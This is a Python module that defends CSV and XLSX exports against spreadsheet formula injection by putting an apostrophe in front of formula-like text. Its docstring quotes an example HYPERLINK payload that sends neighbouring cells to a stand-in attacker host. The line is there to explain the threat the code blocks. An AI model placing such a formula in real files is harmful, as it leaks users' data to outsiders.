"""Cells of the CSV and XLSX files the product writes, safe to open in a spreadsheet program (pure).

Text that begins with '=', '+', '-', '@', a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets: a description `=HYPERLINK("https://evil.example/?leak="&A3&B3,"x")` in a download
would send the neighbouring cells to whoever wrote it once clicked. As OWASP advises against CSV
injection, such text gets a leading apostrophe: it then reads as text, and anyone can see it was changed.
Only text is touched: numbers (ints, Decimals, negative amounts) stay numbers, and so does text that is
nothing but a signed number ("-12.5", "+186.2 %"), in which there is nothing to run.

Every writer of a CSV or XLSX file goes through `cell` (`stats.exports` for every download, the import's
rejects file through `csv_writer`).
"""

import csv
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER = re.compile(r"[+-]\d+(?:[.,]\d+)*\s?%?")


def cell(value):
    """`value` as a cell: text that a spreadsheet would read as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _SIGNED_NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: Iterable) -> list:
    return [cell(value) for value in values]


class csv_writer:  # noqa: N801 - it stands in for csv.writer
    """`csv.writer(file, **options)` whose rows go through `cell`."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, values: Iterable):
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for values in rows:
            self.writerow(values)
